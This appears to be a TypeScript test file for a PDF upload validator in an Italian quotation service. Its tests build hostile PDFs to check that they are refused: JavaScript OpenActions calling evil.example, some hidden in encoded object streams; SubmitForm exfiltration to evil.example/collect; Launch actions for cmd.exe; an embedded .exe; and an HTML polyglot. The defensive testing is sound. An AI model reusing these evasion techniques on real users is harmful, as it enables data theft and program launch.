// Uploaded PDFs (docs/adr/0053-uploaded-pdfs-parsed-and-walked.md): each kind of hostile document is made
// with a real PDF library (@cantoo/pdf-lib) and refused with its own Italian message in the error envelope
// (422 on `file`), from the agent and through the customer's link; a clean PDF passes. A quotation holds at
// most MAX_DOCUMENTS_PER_QUOTATION documents.
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Proposal } from '@core/schemas/quotations';
import { quotationDocuments } from './db/schema';
import { assertSafePdf, MAX_DOCUMENTS_PER_QUOTATION, PDF_REFUSALS, TOO_MANY_DOCUMENTS } from './lib/documents';
import { createTestApp, type TestApp } from './test/helper';
import { multipartBody } from './test/multipart';
import { privateProposal, publicOfferRef } from './test/payloads';

/** A one-page document with a line of text, changed by `edit` before it is saved. */
async function made(edit: (doc: PDFDocument) => void | Promise<void> = () => {}, save: { useObjectStreams?: boolean } = {}) {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText('Busta paga di ottobre', { x: 50, y: 780, size: 12 });
  await edit(doc);
  return Buffer.from(await doc.save({ useObjectStreams: save.useObjectStreams ?? false }));
}

const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.register(doc.context.obj(entries as never));
const setOpenAction = (doc: PDFDocument, entries: Record<string, unknown>) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, entries));

const ascii85 = (data: Buffer) => {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, i + 4);
    let n = chunk.readUInt32BE(0);
    const n4 = Math.min(4, data.length - i);
    if (n === 0 && n4 === 4) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode((n % 85) + 33));
      n = Math.floor(n / 85);
    }
    out += digits.slice(0, n4 + 1).join('');
  }
  return `${out}~>`;
};

/**
 * An OpenAction pointing at a script action that lives only inside an object stream whose data is encoded
 * with `filter` (the parser must decode it to see the script). The library writes the document and its
 * OpenAction; the object stream is put in before the cross-reference table, as a writer that packs objects
 * would (the library leaves out an object stream it did not make itself).
 */
async function hiddenInObjectStream(filter: 'ASCIIHexDecode' | 'ASCII85Decode' | 'FlateDecode' | ['ASCIIHexDecode', 'FlateDecode']) {
  let hidden = 0;
  let stream = 0;
  const pdf = await made((doc) => {
    const ref = doc.context.nextRef();
    hidden = ref.objectNumber;
    stream = doc.context.nextRef().objectNumber;
    doc.catalog.set(PDFName.of('OpenAction'), ref);
  });
  const header = `${hidden} 0 `;
  const content = Buffer.from(`${header}<</S/JavaScript/JS(app.launchURL\\("https://evil.example"\\))>>`, 'latin1');
  const encoded =
    filter === 'ASCIIHexDecode'
      ? Buffer.from(`${content.toString('hex')}>`, 'latin1')
      : filter === 'ASCII85Decode'
        ? Buffer.from(ascii85(content), 'latin1')
        : filter === 'FlateDecode'
          ? deflateSync(content)
          : Buffer.from(`${deflateSync(content).toString('hex')}>`, 'latin1');
  const filters = Array.isArray(filter) ? `[${filter.map((f) => `/${f}`).join(' ')}]` : `/${filter}`;
  const object = Buffer.concat([
    Buffer.from(`${stream} 0 obj\n<</Type/ObjStm/N 1/First ${header.length}/Filter${filters}/Length ${encoded.length}>>\nstream\n`, 'latin1'),
    encoded,
    Buffer.from('\nendstream\nendobj\n\n', 'latin1'),
  ]);
  const at = pdf.lastIndexOf('xref');
  return Buffer.concat([pdf.subarray(0, at), object, pdf.subarray(at)]);
}

const html = Buffer.from('%PDF-1.7\n<!DOCTYPE html><html><body><script>fetch("/api/v1/agent/profile")</script></body></html>\n%%EOF\n', 'latin1');

const refusal = async (data: Buffer) => {
  try {
    await assertSafePdf(data);
    return null;
  } catch (err) {
    return (err as Error).message;
  }
};

describe('assertSafePdf', () => {
  it('accepts a clean PDF, with or without object streams, and one with a link the reader clicks', async () => {
    expect(await refusal(await made())).toBeNull();
    expect(await refusal(await made(() => {}, { useObjectStreams: true }))).toBeNull();
    const withLink = await made((doc) => {
      const link = doc.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [50, 770, 200, 790],
        A: { S: 'URI', URI: PDFString.of('https://www.agenziaentrate.gov.it') },
      });
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
      // An OpenAction that opens a page of the document itself is harmless.
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, PDFName.of('Fit')]));
    });
    expect(await refusal(withLink)).toBeNull();
  });

  it('refuses what is not a PDF a library reads, a PDF without pages, and HTML behind a PDF header', async () => {
    expect(await refusal(Buffer.from('ciao, non sono un PDF'))).toBe(PDF_REFUSALS.notPdf);
    expect(await refusal(html)).toBe(PDF_REFUSALS.html);
    // A real PDF with a page of HTML appended after its objects.
    const clean = await made();
    const polyglot = Buffer.concat([clean.subarray(0, clean.lastIndexOf('%%EOF')), Buffer.from('<html><script>alert(1)</script></html>\n%%EOF\n')]);
    expect(await refusal(polyglot)).toBe(PDF_REFUSALS.html);
    const empty = Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }));
    expect(await refusal(empty)).toBe(PDF_REFUSALS.noPages);
    expect(await refusal(Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 9 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1'))).not.toBeNull();
  });

  it('refuses JavaScript in any place and encoding', async () => {
    const cases: [string, Buffer][] = [
      ['OpenAction', await made((doc) => setOpenAction(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))],
      ['document names', await made((doc) => doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: action(doc, { Names: [] }) })))],
      [
        'script text in a compressed stream',
        await made((doc) => setOpenAction(doc, { S: 'JavaScript', JS: doc.context.register(doc.context.flateStream('app.alert(1)')) })),
      ],
      [
        'page open action',
        await made((doc) =>
          doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'JavaScript', JS: PDFHexString.fromText('x') }) })),
        ),
      ],
      ['ASCIIHex object stream', await hiddenInObjectStream('ASCIIHexDecode')],
      ['ASCII85 object stream', await hiddenInObjectStream('ASCII85Decode')],
      ['Flate object stream', await hiddenInObjectStream('FlateDecode')],
      ['ASCIIHex and Flate object stream', await hiddenInObjectStream(['ASCIIHexDecode', 'FlateDecode'])],
      [
        'saved by the library into its object streams',
        await made((doc) => setOpenAction(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }), { useObjectStreams: true }),
      ],
      [
        'XFA form',
        await made((doc) =>
          doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: doc.context.register(doc.context.flateStream('<xdp/>')) })),
        ),
      ],
    ];
    for (const [name, pdf] of cases) expect(await refusal(pdf), name).toBe(PDF_REFUSALS.javascript);
    const escaped = Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      'latin1',
    );
    expect(await refusal(escaped), 'names written with #xx escapes').toBe(PDF_REFUSALS.javascript);
  });

  it('refuses open and page actions that send forms, open addresses or launch programs, and launch actions anywhere', async () => {
    const cases: [string, Buffer][] = [
      [
        'OpenAction SubmitForm',
        await made((doc) => setOpenAction(doc, { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/collect') } })),
      ],
      ['OpenAction URI', await made((doc) => setOpenAction(doc, { S: 'URI', URI: PDFString.of('https://evil.example') }))],
      ['OpenAction Launch', await made((doc) => setOpenAction(doc, { S: 'Launch', F: PDFString.of('calc.exe') }))],
      [
        'OpenAction GoTo then URI',
        await made((doc) =>
          setOpenAction(doc, {
            S: 'GoTo',
            D: [doc.getPage(0).ref, PDFName.of('Fit')],
            Next: action(doc, { S: 'URI', URI: PDFString.of('https://evil.example') }),
          }),
        ),
      ],
      [
        'page open URI',
        await made((doc) =>
          doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'URI', URI: PDFString.of('https://evil.example') }) })),
        ),
      ],
      [
        'document close SubmitForm',
        await made((doc) =>
          doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: action(doc, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }) })),
        ),
      ],
      [
        'link that launches a program',
        await made((doc) => {
          const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: { S: 'Launch', F: PDFString.of('cmd.exe') } });
          doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
        }),
      ],
    ];
    for (const [name, pdf] of cases) expect(await refusal(pdf), name).toBe(PDF_REFUSALS.actions);
  });

  it('refuses embedded files: the attachments name tree and file attachment annotations', async () => {
    const attached = await made(async (doc) => {
      await doc.attach(Buffer.from('MZ...'), 'fattura.exe', { mimeType: 'application/octet-stream', description: 'Fattura' });
    });
    expect(await refusal(attached)).toBe(PDF_REFUSALS.embedded);
    const annotated = await made((doc) => {
      const spec = doc.context.obj({ Type: 'Filespec', F: PDFString.of('nota.txt') });
      const annot = doc.context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10], FS: doc.context.register(spec) });
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
    });
    expect(await refusal(annotated)).toBe(PDF_REFUSALS.embedded);
  });

  it('refuses a PDF that asks for a password; one encrypted with an empty password is decrypted and checked', async () => {
    const locked = await made((doc) => doc.encrypt({ userPassword: 'segreta', ownerPassword: 'proprietario' }));
    expect(await refusal(locked)).toBe(PDF_REFUSALS.encrypted);
    const restricted = await made((doc) => doc.encrypt({ userPassword: '', ownerPassword: 'proprietario', permissions: { modifying: false } }));
    expect(await refusal(restricted)).toBeNull();
    const scripted = await made(
      (doc) => {
        setOpenAction(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
        doc.encrypt({ userPassword: '', ownerPassword: 'proprietario' });
      },
      { useObjectStreams: true },
    );
    expect(await refusal(scripted)).toBe(PDF_REFUSALS.javascript);
    const broken = await made((doc) => {
      doc.context.trailerInfo.Encrypt = doc.context.register(doc.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
    });
    expect(await refusal(broken)).toBe(PDF_REFUSALS.encrypted);
  });
});

describe('POST quotations/documents/upload', () => {
  let t: TestApp;
  let full: Record<string, string>;
  let quotation: Proposal;
  beforeAll(async () => {
    t = await createTestApp();
    full = (await t.login('completo@demo.it')).headers;
    const ref = await publicOfferRef(t.database.db, 'privati');
    const created = await t.inject({ method: 'POST', url: '/api/v1/proposals', headers: full, payload: privateProposal(ref) });
    expect(created.statusCode, created.body).toBe(201);
    const answers = { trial_period_ended: true, net_monthly_income: 2500, other_loans: 0, guarantor: false, bad_payer: false, over_72: false };
    const coded = await t.inject({
      method: 'PUT',
      url: `/api/v1/proposals/${created.json().data.id}`,
      headers: full,
      payload: { sustainability: { contractualCategory: 'tempo-indeterminato', answers } },
    });
    quotation = coded.json().data;
    expect(quotation.quotation.data.code).toBeTruthy();
  });
  afterAll(() => t.close());

  const upload = (data: Buffer) => {
    const mp = multipartBody([
      { name: 'quotation', value: quotation.quotation.data.code! },
      { name: 'file_type', value: 'identity' },
      { name: 'file', value: data, filename: 'doc.pdf', type: 'application/pdf' },
    ]);
    return t.inject({ method: 'POST', url: '/api/v1/quotations/documents/upload', headers: { ...full, ...mp.headers }, payload: mp.payload });
  };

  it('refuses each kind of hostile PDF with its message in the error envelope, and takes a clean one', async () => {
    const hostile: [keyof typeof PDF_REFUSALS, Buffer][] = [
      ['javascript', await hiddenInObjectStream('ASCIIHexDecode')],
      ['actions', await made((doc) => setOpenAction(doc, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }))],
      ['embedded', await made(async (doc) => doc.attach(Buffer.from('x'), 'a.txt', { mimeType: 'text/plain' }))],
      ['html', html],
      ['noPages', Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }))],
    ];
    for (const [kind, data] of hostile) {
      const res = await upload(data);
      expect(res.statusCode, kind).toBe(422);
      expect(res.json(), kind).toEqual({ error: { http_code: 422, message: PDF_REFUSALS[kind] }, errors: { file: [PDF_REFUSALS[kind]] } });
    }
    expect((await upload(await made())).statusCode).toBe(200);
  });

  it(`stops at ${MAX_DOCUMENTS_PER_QUOTATION} documents per quotation`, async () => {
    const id = Number(quotation.id);
    const held = (await t.database.db.select().from(quotationDocuments).where(eq(quotationDocuments.quotationId, id))).length;
    await t.database.db.insert(quotationDocuments).values(
      Array.from({ length: MAX_DOCUMENTS_PER_QUOTATION - held }, (_, i) => ({
        quotationId: id,
        fileType: 'identity',
        name: `d${i}.pdf`,
        storedName: `${'0'.repeat(30)}${String(i).padStart(2, '0')}.pdf`,
        size: 10,
      })),
    );
    const res = await upload(await made());
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({ error: { http_code: 422, message: TOO_MANY_DOCUMENTS }, errors: { file: [TOO_MANY_DOCUMENTS] } });
  });
});
